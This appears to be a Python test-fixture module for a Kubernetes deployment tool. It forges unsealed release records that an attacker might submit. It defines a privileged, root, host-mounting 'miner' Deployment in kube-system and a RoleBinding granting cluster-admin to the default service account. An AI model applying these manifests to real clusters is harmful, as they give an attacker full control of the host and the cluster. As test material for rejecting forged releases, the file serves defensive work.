"""Good releases that somebody else has written: what an attacker would have us apply."""

from __future__ import annotations

import base64
import json
import zlib
from typing import Any

from kfp_bento.runtime.deployments import Release
from kfp_bento.runtime.deployments.release.good_release import encode_good


def pack(told: Any) -> str:
    """The text of an annotation that says this, without a seal."""
    text = json.dumps(told, separators=(",", ":"))
    return base64.b64encode(zlib.compress(text.encode(), 9)).decode()


def told_by(release: Release) -> dict[str, Any]:
    """What the record of a release says, as plain JSON."""
    text = encode_good(release).partition(".")[0]
    told: dict[str, Any] = json.loads(zlib.decompress(base64.b64decode(text)))
    return told


def record(release: Release, *, options: dict[str, Any] | None = None, **changes: Any) -> str:
    """The record of a release with other facts, and options put over its own."""
    told = told_by(release)
    return pack({**told, "options": {**told["options"], **(options or {})}, **changes})


def record_of_manifests(*manifests: Any) -> str:
    """A record as earlier versions wrote them: what is to be applied, as it is."""
    facts = {"revision": "0123456789abcdef", "image": "", "bento": "wine:v1"}
    return pack({**facts, "manifests": manifests})


def privileged_deployment(labels: dict[str, str]) -> dict[str, Any]:
    pods = {"app": "miner"}
    container = {
        "name": "main",
        "image": "registry.example.com/evil@sha256:" + "e1" * 32,
        "securityContext": {"privileged": True, "runAsUser": 0},
        "volumeMounts": [{"name": "host", "mountPath": "/host"}],
    }
    spec = {
        "hostPID": True,
        "hostNetwork": True,
        "containers": [container],
        "volumes": [{"name": "host", "hostPath": {"path": "/"}}],
    }
    return {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": "miner", "namespace": "kube-system", "labels": labels},
        "spec": {
            "selector": {"matchLabels": pods},
            "template": {"metadata": {"labels": pods}, "spec": spec},
        },
    }


def cluster_admin(namespace: str, labels: dict[str, str]) -> dict[str, Any]:
    return {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "RoleBinding",
        "metadata": {"name": "everything", "namespace": namespace, "labels": labels},
        "roleRef": {
            "apiGroup": "rbac.authorization.k8s.io",
            "kind": "ClusterRole",
            "name": "cluster-admin",
        },
        "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": namespace}],
    }
